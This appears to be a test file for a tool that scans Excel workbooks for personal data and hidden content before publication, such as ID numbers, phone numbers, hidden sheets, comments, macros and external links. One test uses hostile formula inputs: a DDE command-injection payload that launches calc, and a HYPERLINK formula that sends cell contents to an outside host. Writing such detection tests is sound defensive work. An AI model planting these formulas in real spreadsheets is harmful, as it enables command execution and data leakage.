"""Workbooks: what is seen, what is hidden, and what stays behind."""

import io
import zipfile

import openpyxl
import pytest
from openpyxl.comments import Comment
from openpyxl.workbook.defined_name import DefinedName

from doorstep.publishing.leaks import Finding, scan_file
from tests.publishing.leaks.formats import saved

ID = "41010219800101123X"


def book() -> openpyxl.Workbook:
    new = openpyxl.Workbook()
    new.active.title = "公示"
    return new


def found(content: bytes) -> list[tuple[str, str]]:
    return [(each.kind, each.place) for each in scan_file("a.xlsx", content)]


def changed(content: bytes, changes: dict[str, tuple[str, str]], **more: bytes) -> bytes:
    """The workbook with texts in its parts replaced, and with more parts."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(out, "w") as new:
        for name in old.namelist():
            part = old.read(name)
            if name in changes:
                assert changes[name][0].encode() in part
                part = part.replace(changes[name][0].encode(), changes[name][1].encode())
            new.writestr(name, part)
        for name, part in more.items():
            new.writestr(name, part)
    return out.getvalue()


def test_a_clean_workbook_passes() -> None:
    new = book()
    new.active.append(["项目", "金额"])
    new.active.append(["路灯", 48000])
    new.active.append(["合计", "=SUM(B2:B2)"])

    assert found(saved(new)) == []


def test_a_text_and_a_number_cell_are_found_where_they_stand() -> None:
    new = book()
    new.active["B7"], new.active["C8"], new.active["D9"] = ID, 13812345678, 410105197003120012

    assert found(saved(new)) == [
        ("id_card", "sheet 公示!D9"),
        ("id_card", "sheet 公示!B7"),
        ("mobile", "sheet 公示!C8"),
    ]


@pytest.mark.parametrize("state", ["hidden", "veryHidden"])
def test_a_hidden_sheet_is_a_finding_and_is_read(state: str) -> None:
    new = book()
    other = new.create_sheet("原始")
    other.sheet_state, other["A1"] = state, ID

    assert found(saved(new)) == [("id_card", "sheet 原始!A1"), ("hidden_sheet", "sheet 原始")]


def test_hidden_rows_and_columns_are_findings() -> None:
    new = book()
    new.active.append(["甲", "乙"])
    new.active.append(["丙", "丁"])
    new.active.row_dimensions[2].hidden = True
    new.active.column_dimensions["B"].hidden = True

    assert found(saved(new)) == [("hidden_row", "sheet 公示!2"), ("hidden_column", "sheet 公示!B:B")]


def test_a_comment_and_its_author_are_findings() -> None:
    new = book()
    new.active["A2"] = "路灯"
    new.active["A2"].comment = Comment("问过 13812345678", "王小明")

    assert found(saved(new)) == [
        ("comment", "comment at A2"),
        ("mobile", "comment at A2"),
        ("metadata", "xl/comments/comment1.xml author"),
    ]


@pytest.mark.parametrize(
    "text", ['=HYPERLINK("http://a.cn/"&A1)', "=cmd|'/c calc'!A0", "=1+1", "=[1]原始!A1"]
)
def test_a_formula_that_does_more_than_add_cells_is_a_finding(text: str) -> None:
    new = book()
    new.active["A1"] = text

    assert ("formula", "sheet 公示!A1") in found(saved(new))


def test_properties_of_a_person_are_findings() -> None:
    new = book()
    new.properties.creator, new.properties.lastModifiedBy = "王小明", "李四"
    new.properties.title = "找 13812345678"

    assert found(saved(new)) == [
        ("metadata", "docProps/core.xml creator"),
        ("mobile", "docProps/core.xml title"),
        ("metadata", "docProps/core.xml lastModifiedBy"),
    ]


def test_a_string_no_cell_shows_is_found() -> None:
    new = book()
    new.active["A1"] = 0
    kept = f"<sst><si><t>路灯</t></si><si><t>{ID}</t></si></sst>".encode()
    shown = {"xl/worksheets/sheet1.xml": ('t="n"', 't="s"')}
    content = changed(saved(new), shown, **{"xl/sharedStrings.xml": kept})

    assert found(content) == [
        ("hidden_text", "unused shared string 2"),
        ("id_card", "unused shared string 2"),
    ]


def test_the_rounded_end_of_an_identity_number_does_not_help() -> None:
    new = book()
    new.active["A1"] = 1
    content = changed(saved(new), {"xl/worksheets/sheet1.xml": ("<v>1</v>", "<v>4.10102198001011E+17</v>")})

    assert [each.reason for each in scan_file("a.xlsx", content)] == ["rounded"]


def test_names_links_macros_and_caches_are_read() -> None:
    new = book()
    new.defined_names["电话"] = DefinedName("电话", attr_text='"13812345678"')
    content = changed(
        saved(new),
        {},
        **{
            "xl/vbaProject.bin": b"\0",
            "xl/externalLinks/externalLink1.xml": b"<externalLink><v>13900001111</v></externalLink>",
            "xl/pivotCache/pivotCacheRecords1.xml": (
                b'<pivotCacheRecords><r><s v="x"/><s v="13700001111"/></r></pivotCacheRecords>'
            ),
            "xl/embeddings/oleObject1.bin": b"\0\1\2",
            "xl/media/image1.png": b"broken",
        },
    )

    assert found(content) == [
        ("mobile", "defined name 电话"),
        ("macro", "xl/vbaProject.bin"),
        ("external_link", "xl/externalLinks/externalLink1.xml"),
        ("mobile", "xl/externalLinks/externalLink1.xml"),
        ("hidden_row", "xl/pivotCache/pivotCacheRecords1.xml"),
        ("mobile", "xl/pivotCache/pivotCacheRecords1.xml"),
        ("embedded_file", "xl/embeddings/oleObject1.bin"),
        ("unreadable", "xl/embeddings/oleObject1.bin"),
        ("unreadable", "xl/media/image1.png"),
    ]


def test_headings_and_names_of_one_row_are_read_together() -> None:
    new = book()
    for row in (["公示名单"], ["姓名", "房号"], ["李建国", 501], ["张**", "3号楼"]):
        new.active.append(row)

    assert scan_file("a.xlsx", saved(new)) == [
        Finding("name_door", "sheet 公示!A3", "李** 5**", "table_columns")
    ]
